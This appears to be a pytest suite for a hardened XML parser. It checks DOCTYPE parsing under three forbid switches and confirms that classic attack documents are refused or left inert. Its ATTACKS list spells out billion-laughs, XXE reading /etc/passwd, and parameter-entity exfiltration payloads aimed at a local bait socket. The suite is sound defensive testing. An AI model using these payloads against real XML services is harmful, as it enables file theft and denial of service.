"""DOCTYPE analysis and the three switches, including the classic attack documents."""

import itertools
import socket
import sys
import time
import xml.etree.ElementTree  # noqa: F401  (imported before any audited parse)

import pytest

import vorlane.common  # noqa: F401  (imported before any audited parse)
from vorlane import parse_xml
from vorlane.common import DTDForbidden, EntitiesForbidden, ExternalReferenceForbidden, ParseError

SWITCHES = list(itertools.product([False, True], repeat=3))  # forbid_dtd, forbid_entities, forbid_external
SWITCH_IDS = ["dtd%d-ent%d-ext%d" % s for s in SWITCHES]


def E(name, value=None, system_id=None, public_id=None, notation_name=None):
    return (name, value, system_id, public_id, notation_name)


# (document, DOCTYPE name, system_id, public_id, entity declarations in text order)
ANALYSIS = [
    ("<!DOCTYPE root><root/>", "root", None, None, []),
    ("<!DOCTYPE root [<!ELEMENT root ANY>]><root/>", "root", None, None, []),
    ("<!DOCTYPE root SYSTEM 'x.dtd'><root/>", "root", "x.dtd", None, []),
    ("<!DOCTYPE root SYSTEM ''><root/>", "root", "", None, []),
    ("<!DOCTYPE html PUBLIC 'p' 's'><html/>", "html", "s", "p", []),
    ('<!DOCTYPE html PUBLIC "p""s"><html/>', "html", "s", "p", []),
    ("<!DOCTYPE html PUBLIC 'p'><html/>", "html", None, "p", []),
    ("<!DOCTYPE r xSYSTEM 'a'><r/>", "r", "a", None, []),
    ("<!DOCTYPE r SYSTEM 'a' SYSTEM 'b'><r/>", "r", "b", None, []),
    ("<!DOCTYPEr><r/>", "r", None, None, []),
    ("<!doctype r [<!ENTITY e \"]>\">]><r/>", "r", None, None, [E("e", "]>")]),
    ("<!DOCTYPE r [<!ENTITY a 'b'>]><r/>", "r", None, None, [E("a", "b")]),
    ("<!DOCTYPE r [<!ENTITY a SYSTEM 'f'>]><r/>", "r", None, None, [E("a", system_id="f")]),
    ("<!DOCTYPE r [<!ENTITY a PUBLIC 'p' 's'>]><r/>", "r", None, None, [E("a", None, "s", "p")]),
    ("<!DOCTYPE r [<!ENTITY % pe 'v'>]><r/>", "r", None, None, [E("pe", "v")]),
    ("<!DOCTYPE r [<!-- <!ENTITY a 'b'> -->]><r/>", "r", None, None, [E("a", "b")]),
    ("<!DOCTYPE r [<!entity a 'b'>]><r/>", "r", None, None, []),
    ("<!DOCTYPE r [<!ENTITY a 'x' 'y'>]><r/>", "r", None, None, [E("a", "y")]),
    ("<!DOCTYPE r [<!ENTITY a SYSTEM 's' NDATA n>]><r/>", "r", None, None, [E("a", None, "s", None, "n")]),
    ("<!DOCTYPE r [<!ENTITY a NDATA>]><r/>", "r", None, None, [E("a", notation_name="")]),
    ("<!DOCTYPE [<!ENTITY a 'b'>]><r/>", "", None, None, [E("a", "b")]),
    ("<!DOCTYPE r [<!ENTITY>]><r/>", "r", None, None, [E("")]),
    ("<!DOCTYPE r [<!ENTITY a 'b'><!ENTITY a 'c'>]><r/>", "r", None, None, [E("a", "b"), E("a", "c")]),
    ("<!DOCTYPE r [<!ENTITY a 'v'><!ENTITY b SYSTEM 's'>]><r/>", "r", None, None, [E("a", "v"), E("b", None, "s")]),
    # A declaration without its '>' absorbs the next one, keywords included.
    ("<!DOCTYPE r [<!ENTITY a 'b' <!ENTITY c SYSTEM 'f'>]><r/>", "r", None, None, [E("a", "b", "f")]),
    # An unterminated quote in a comment is passed over.
    ("<!DOCTYPE r [<!-- <!ENTITY a 'x -->]><r/>", "r", None, None, [E("a")]),
    # The last ']' stands before the first '[': no internal subset.
    ("<!DOCTYPE r] SYSTEM '[<!ENTITY a \"b\">'><r/>", "r]", "[<!ENTITY a \"b\">", None, []),
    (
        "<!DOCTYPE \u00e9 SYSTEM '\u20ac' [<!ENTITY \u00fc '\u2603' NDATA \u00df>]><\u00e9/>",
        "\u00e9",
        "\u20ac",
        None,
        [E("\u00fc", "\u2603", notation_name="\u00df")],
    ),
    ("<!DOCTYPE\u3000r\u00a0SYSTEM\t'a'><r/>", "r", "a", None, []),
]


def expected_outcome(name, system_id, public_id, entities, forbid_dtd, forbid_entities, forbid_external):
    """The decision order of the policy: DTD, external identifiers, entities."""
    if forbid_dtd:
        return DTDForbidden, (name, system_id, public_id)
    if forbid_external:
        if system_id is not None or public_id is not None:
            return ExternalReferenceForbidden, (None, None, system_id, public_id)
        for entity in entities:
            if entity[2] is not None or entity[3] is not None:
                return ExternalReferenceForbidden, (None, None, entity[2], entity[3])
    if forbid_entities and entities:
        first = entities[0]
        return EntitiesForbidden, (first[0], first[1], None, first[2], first[3], first[4])
    return None


FIELDS = {
    DTDForbidden: ("name", "system_id", "public_id"),
    EntitiesForbidden: ("name", "value", "base", "system_id", "public_id", "notation_name"),
    ExternalReferenceForbidden: ("context", "base", "system_id", "public_id"),
}


def assert_refused(document, cls, args, **options):
    with pytest.raises(cls) as info:
        parse_xml(document, **options)
    assert type(info.value) is cls
    assert info.value.args == args
    for field, value in zip(FIELDS[cls], args):
        assert getattr(info.value, field) == value


@pytest.mark.parametrize("switches", SWITCHES, ids=SWITCH_IDS)
@pytest.mark.parametrize("document, name, system_id, public_id, entities", ANALYSIS)
def test_analysis_under_every_switch_combination(document, name, system_id, public_id, entities, switches):
    forbid_dtd, forbid_entities, forbid_external = switches
    options = dict(forbid_dtd=forbid_dtd, forbid_entities=forbid_entities, forbid_external=forbid_external)
    outcome = expected_outcome(name, system_id, public_id, entities, *switches)
    if outcome is None:
        root = parse_xml(document, **options)
        assert root.tag == document[document.rindex("<") + 1 : -2]
    else:
        assert_refused(document, *outcome, **options)


# Each DOCTYPE is judged where it stands; the first one that breaks a rule decides.
PLACEMENT = [
    ("<r><!DOCTYPE x [<!ENTITY a 'b'>]></r>", {}, EntitiesForbidden, ("a", "b", None, None, None, None)),
    ("<r/><!DOCTYPE x SYSTEM 'y'>", {}, ExternalReferenceForbidden, (None, None, "y", None)),
    ("<!DOCTYPE a><!DOCTYPE b SYSTEM 's'><a/>", {}, ExternalReferenceForbidden, (None, None, "s", None)),
    (
        "<!DOCTYPE a [<!ENTITY e 'v'>]><!DOCTYPE b SYSTEM 's'><a/>",
        {},
        EntitiesForbidden,
        ("e", "v", None, None, None, None),
    ),
    ("<!DOCTYPE a><!DOCTYPE b SYSTEM 's'><a/>", {"forbid_dtd": True}, DTDForbidden, ("a", None, None)),
    (
        "<!DOCTYPE a [<!ENTITY e 'v'>]><!DOCTYPE b [<!ENTITY f SYSTEM 's'>]><a/>",
        {"forbid_entities": False},
        ExternalReferenceForbidden,
        (None, None, "s", None),
    ),
]


@pytest.mark.parametrize("document, options, cls, args", PLACEMENT)
def test_every_doctype_is_judged(document, options, cls, args):
    assert_refused(document, cls, args, **options)


def test_doctype_inside_root_is_accepted_when_allowed():
    root = parse_xml("<r>a<!DOCTYPE x>b</r>")
    assert root.text == "ab"


ALL_OFF = dict(forbid_dtd=False, forbid_entities=False, forbid_external=False)

LOL = "".join("<!ENTITY lol%d \"%s\">" % (i, ("&lol%s;" % (i - 1 or "")) * 10) for i in range(1, 10))
BIG = "A" * 50000

# (document, refusal under the defaults, outcome with every switch off: a root tag, or a
#  ParseError message when the body references a declared entity that is never expanded)
ATTACKS = [
    pytest.param(
        "<!DOCTYPE lolz [<!ENTITY lol \"lol\">" + LOL + "]><lolz>&lol9;</lolz>",
        (EntitiesForbidden, ("lol", "lol", None, None, None, None)),
        "Undefined entity: &lol9;",
        id="billion-laughs",
    ),
    pytest.param(
        "<!DOCTYPE r [<!ENTITY a \"" + BIG + "\">]><r>" + "&a;" * 1000 + "</r>",
        (EntitiesForbidden, ("a", BIG, None, None, None, None)),
        "Undefined entity: &a;",
        id="quadratic-blowup",
    ),
    pytest.param(
        "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><r>&xxe;</r>",
        (ExternalReferenceForbidden, (None, None, "file:///etc/passwd", None)),
        "Undefined entity: &xxe;",
        id="external-entity-file",
    ),
    pytest.param(
        "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"http://127.0.0.1:{port}/x\">]><r a='&xxe;'/>",
        (ExternalReferenceForbidden, (None, None, "http://127.0.0.1:{port}/x", None)),
        "Unrecognized entity: &xxe;",
        id="external-entity-http-attribute",
    ),
    pytest.param(
        "<!DOCTYPE r SYSTEM \"http://127.0.0.1:{port}/r.dtd\"><r>x</r>",
        (ExternalReferenceForbidden, (None, None, "http://127.0.0.1:{port}/r.dtd", None)),
        "r",
        id="external-dtd",
    ),
    pytest.param(
        "<!DOCTYPE r PUBLIC \"-//X//DTD R//EN\" \"{file_url}\"><r/>",
        (ExternalReferenceForbidden, (None, None, "{file_url}", "-//X//DTD R//EN")),
        "r",
        id="external-dtd-public-file",
    ),
    pytest.param(
        "<!DOCTYPE r [<!ENTITY % pe SYSTEM \"http://127.0.0.1:{port}/evil.dtd\"> %pe;]><r/>",
        (ExternalReferenceForbidden, (None, None, "http://127.0.0.1:{port}/evil.dtd", None)),
        "r",
        id="parameter-entity-external",
    ),
    pytest.param(
        "<!DOCTYPE r [<!ENTITY % file SYSTEM \"{file_url}\">"
        "<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:{port}/?%file;'>\">"
        "%eval; %exfil;]><r/>",
        (ExternalReferenceForbidden, (None, None, "{file_url}", None)),
        "r",
        id="parameter-entity-exfiltration",
    ),
    pytest.param(
        "<!DOCTYPE r [<!ENTITY % inner \"<!ENTITY leak 'x'>\"> %inner;]><r>&leak;</r>",
        (EntitiesForbidden, ("inner", "<!ENTITY leak 'x'>", None, None, None, None)),
        "Undefined entity: &leak;",
        id="parameter-entity-nested-declaration",
    ),
]


class _Watch:
    """An audit hook (installed once, it cannot be removed) that records file and network
    activity only while `active` is set."""

    def __init__(self):
        self.active = False
        self.events = []
        sys.addaudithook(self)

    def __call__(self, event, args):
        if self.active and (event == "open" or event.startswith(("socket.", "urllib.", "subprocess.", "os.system"))):
            self.events.append((event, args))


_WATCH = None


@pytest.fixture
def watch():
    global _WATCH
    if _WATCH is None:
        _WATCH = _Watch()
    _WATCH.events.clear()
    return _WATCH


@pytest.fixture
def bait(tmp_path):
    """A file with a secret and a listening socket that no parse may touch."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)
    yield {"file_url": secret.as_uri(), "port": server.getsockname()[1]}, server
    server.close()


def fill(value, names):
    if isinstance(value, str):
        return value.replace("{file_url}", names["file_url"]).replace("{port}", str(names["port"]))
    if isinstance(value, tuple):
        return tuple(fill(v, names) for v in value)
    return value


def audited_parse(watch, document, **options):
    watch.active = True
    try:
        return parse_xml(document, **options)
    finally:
        watch.active = False


@pytest.mark.parametrize("document, refusal, permissive", ATTACKS)
def test_attack_refused_under_defaults(watch, bait, document, refusal, permissive):
    names, server = bait
    document = fill(document, names)
    cls, args = refusal
    with pytest.raises(cls) as info:
        audited_parse(watch, document)
    assert type(info.value) is cls
    assert info.value.args == fill(args, names)
    assert watch.events == []
    with pytest.raises(BlockingIOError):
        server.accept()


@pytest.mark.parametrize("document, refusal, permissive", ATTACKS)
def test_attack_inert_with_every_switch_off(watch, bait, document, refusal, permissive):
    names, server = bait
    document = fill(document, names)
    if permissive.startswith(("Undefined", "Unrecognized")):
        with pytest.raises(ParseError) as info:
            audited_parse(watch, document, **ALL_OFF)
        assert info.value.args == (permissive,)
    else:
        root = audited_parse(watch, document, **ALL_OFF)
        assert root.tag == permissive
        assert all("TOP-SECRET" not in (t or "") for t in root.itertext())
        assert all("TOP-SECRET" not in v for e in root.iter() for v in e.attrib.values())
    assert watch.events == []
    with pytest.raises(BlockingIOError):
        server.accept()


def test_declared_entity_is_not_expanded_when_allowed():
    document = "<!DOCTYPE r [<!ENTITY e 'expanded'>]><r>&amp;</r>"
    assert parse_xml(document, **ALL_OFF).text == "&"


# Documents built to make naive searches quadratic: at several MB a quadratic scan takes
# minutes, a linear one well under a second.
HUGE = [
    pytest.param("<!DOCTYPE r [" + "<!ENTITY a 'b'>" * 300_000 + "]><r/>", id="many-declarations"),
    pytest.param("<!DOCTYPE r [<!-- " + "<!ENTITY a '" * 400_000 + " -->]><r/>", id="quotes-in-comment"),
    pytest.param(
        "<!DOCTYPE r [<!-- <!ENTITY a " + "PUBLIC \" SYSTEM '" * 250_000 + " -->]><r/>", id="keywords-in-comment"
    ),
    pytest.param("<!DOCTYPE r [" + "<!ENTITY a \"'>" * 300_000 + "]><r/>", id="pairing-quotes"),
]


@pytest.mark.parametrize("document", HUGE)
def test_huge_doctypes_are_linear(document):
    assert len(document) > 4_000_000
    start = time.perf_counter()
    assert parse_xml(document, **ALL_OFF).tag == "r"
    with pytest.raises(EntitiesForbidden):
        parse_xml(document, forbid_external=False)
    assert time.perf_counter() - start < 10
